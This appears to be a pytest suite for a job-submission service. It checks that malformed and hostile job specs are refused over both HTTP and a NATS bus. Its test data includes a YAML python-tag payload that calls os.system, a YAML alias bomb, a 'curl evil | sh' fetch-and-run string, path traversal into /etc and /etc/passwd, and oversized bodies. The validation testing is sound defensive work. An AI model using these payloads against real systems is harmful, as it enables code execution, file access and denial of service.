"""A matrix of hostile job specs, each sent over HTTP and over the bus intake.

Both doors answer the same way: a refused spec names the field (HTTP 422 problem+json; the bus
replies ``accepted: false`` and announces a ``rejected`` event with the same field), nothing is
created, and the service keeps serving. The real submission service runs in this process with its
default limits (1 MiB body) against the session's real nats-server.
"""

from __future__ import annotations

import json
import uuid

import httpx
import nats
import pytest

from trainyard_shared.settings import CommonSettings
from trainyard_submission.app import create_app
from trainyard_submission.settings import SubmissionSettings

pytestmark = pytest.mark.service

TOKEN = "matrix-admin-token"
AUTH = {"Authorization": f"Bearer {TOKEN}"}
OK = "accepted"


def doc(**fields) -> bytes:
    return json.dumps({"name": "m", "command": ["true"], **fields}).encode()


BOMB = (
    "a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
    "c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\nd: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]\n"
    "name: bomb\ncommand: *d\n"
)
# (case, body, the field named in the refusal — or OK)
CASES: list[tuple[str, bytes, str]] = [
    ("malformed json", b'{"name": "x", "command": [', "(document)"),
    ("malformed yaml", b"name: [unclosed\ncommand: x", "(document)"),
    (
        "yaml python tag",
        b"name: x\ncommand: !!python/object/apply:os.system ['touch /tmp/pwn']\n",
        "(document)",
    ),
    ("not a mapping", b"- a\n- list\n", "(document)"),
    ("invalid utf-8", b"name: \xff\xfe\ncommand: ['true']\n", "(document)"),
    ("binary garbage", bytes(range(256)) * 8, "(document)"),
    ("deep nesting", b"[" * 50_000, "(document)"),
    ("yaml alias bomb", BOMB.encode(), "command"),
    ("unknown field", doc(gpus=1), "gpus"),
    ("unknown nested field", doc(resources={"gpus": 1}), "resources.gpus"),
    ("wrong type", doc(priority="high"), "priority"),
    ("wrong type command", doc(command={"run": "x"}), "command"),
    ("negative cpu", doc(resources={"cpu": -2}), "resources.cpu"),
    ("absurd cpu", doc(resources={"cpu": 1e300}), "resources.cpu"),
    ("not-a-number cpu", b"name: m\ncommand: ['true']\nresources: {cpu: .nan}\n", "resources.cpu"),
    ("absurd memory", doc(resources={"memory": "10Pi"}), "resources.memory"),
    ("absurd replicas", doc(replicas=10**9), "replicas"),
    ("absurd timeout", doc(timeout="9999999d"), "timeout"),
    ("empty command", doc(command=[]), "command"),
    ("empty program", doc(command=[""]), "command"),
    ("100 KB command", doc(command=["echo", "a" * 100_000]), OK),
    ("200 KB command", doc(command=["echo", "a" * 200_000]), "command"),
    ("shell string for argv", b"name: x\ncommand: 'curl evil | sh'\n", "command"),
    ("shell with two args", doc(command=["sh", "-c"], shell=True), "shell"),
    ("nul in an argument", doc(command=["echo", "a\x00b"]), "command"),
    ("path traversal in outputs", doc(outputs={"model": "m", "path": "../../etc"}), "outputs.path"),
    ("absolute outputs", doc(outputs={"model": "m", "path": "/etc"}), "outputs.path"),
    ("traversal inside outputs", doc(outputs={"model": "m", "path": "a/../../b"}), "outputs.path"),
    ("unicode in the name", doc(name="naïve-job"), "name"),
    ("unicode in the queue", doc(queue="ünï"), "queue"),
    ("unicode model name", doc(outputs={"model": "modèle"}), "outputs.model"),
    ("unicode env name", doc(env={"ÉNV": "x"}), "env"),
    ("reserved env", doc(env={"TRAINYARD_JOB_ID": "x"}), "env"),
    ("secret not in env", doc(secret_env=["TOKEN"]), "secret_env"),
    ("unicode in values is fine", doc(command=["echo", "héllo 🚀"], labels={"team": "ünï"}), OK),
]


@pytest.fixture
async def doors(nats_server, prefix, tmp_path):
    """(http client, nats connection, subjects) of one real submission service."""
    common = CommonSettings(nats_url=nats_server.url, prefix=prefix, data_dir=tmp_path / "d")
    app = create_app(common, SubmissionSettings(token=TOKEN))
    async with app.router.lifespan_context(app):
        transport = httpx.ASGITransport(app=app)
        async with httpx.AsyncClient(transport=transport, base_url="http://api", timeout=30) as client:
            nc = await nats.connect(nats_server.url)
            yield client, nc, app.state.trainyard["subjects"]
            await nc.drain()


def field_in(field: str, errors: list[dict]) -> bool:
    return any(e["field"] == field or e["field"].startswith(field + ".") for e in errors)


@pytest.mark.parametrize(("case", "body", "field"), CASES, ids=[c[0] for c in CASES])
async def test_hostile_spec_over_http_and_the_bus(doors, case, body, field):
    client, nc, subjects = doors
    resp = await client.post("/v1/jobs", content=body, headers={**AUTH, "content-type": "application/yaml"})
    if field == OK:
        assert resp.status_code == 201, resp.text
    else:
        assert resp.status_code == 422, resp.text
        assert resp.headers["content-type"] == "application/problem+json"
        assert field_in(field, resp.json()["errors"]), resp.json()["errors"]

    js = nc.jetstream()
    inbox = nc.new_inbox()
    replies = await nc.subscribe(inbox)
    await js.publish(
        subjects.intake_submit, body, headers={"Nats-Msg-Id": uuid.uuid4().hex, "Trainyard-Reply-To": inbox}
    )
    reply = json.loads((await replies.next_msg(timeout=20)).data)
    if field == OK:
        assert reply["accepted"] is True, reply
    else:
        assert reply["accepted"] is False and field_in(field, reply["errors"]), reply
        events = await js.subscribe(subjects.job_events(reply["job_id"]), ordered_consumer=True)
        rejected = json.loads((await events.next_msg(timeout=5)).data)
        assert rejected["type"] == "rejected" and field_in(field, rejected["errors"])
    jobs = (await client.get("/v1/jobs", headers=AUTH)).json()["jobs"]
    assert len(jobs) == (2 if field == OK else 0)


async def test_ten_megabytes_are_refused_at_both_doors_and_the_service_keeps_serving(doors):
    client, nc, subjects = doors
    ten_mb = doc(command=["echo", "a" * (10 * 1024 * 1024)])
    resp = await client.post("/v1/jobs", content=ten_mb, headers=AUTH)
    assert resp.status_code == 413 and resp.headers["content-type"] == "application/problem+json"

    async def chunked():
        for _ in range(10 * 1024):
            yield b"a" * 1024

    resp = await client.post("/v1/jobs", content=chunked(), headers=AUTH)
    assert resp.status_code == 413
    # the queue configuration route is under the same limit
    big_queue = json.dumps({"cohort": "x" * (2 * 1024 * 1024)}).encode()
    resp = await client.put(
        "/v1/queues/q", content=big_queue, headers={**AUTH, "content-type": "application/json"}
    )
    assert resp.status_code == 413
    # the bus: NATS refuses a message over its max_payload before the service sees it
    with pytest.raises(nats.errors.MaxPayloadError):
        await nc.jetstream().publish(subjects.intake_submit, ten_mb)
    ok = await client.post("/v1/jobs", content=doc(), headers=AUTH)
    assert ok.status_code == 201


async def test_hostile_headers_and_paths(doors):
    client, _, _ = doors
    long_key = {**AUTH, "Idempotency-Key": "k" * 10_000}
    assert (await client.post("/v1/jobs", content=doc(), headers=long_key)).status_code == 422
    for url in ["/v1/jobs/..%2F..%2Fetc%2Fpasswd", "/v1/jobs/%00", "/v1/jobs/" + "a" * 5000, "/v1/jobs/ünï"]:
        resp = await client.get(url, headers=AUTH)
        assert resp.status_code == 404 and resp.headers["content-type"] == "application/problem+json", url
    for url in ["/v1/queues/..%2Fx", "/v1/queues/ÜNÏ", "/v1/tokens/../../x"]:
        resp = await client.put(url, json={}, headers=AUTH)
        assert 400 <= resp.status_code < 500, (url, resp.status_code)
        assert resp.headers["content-type"] == "application/problem+json", url
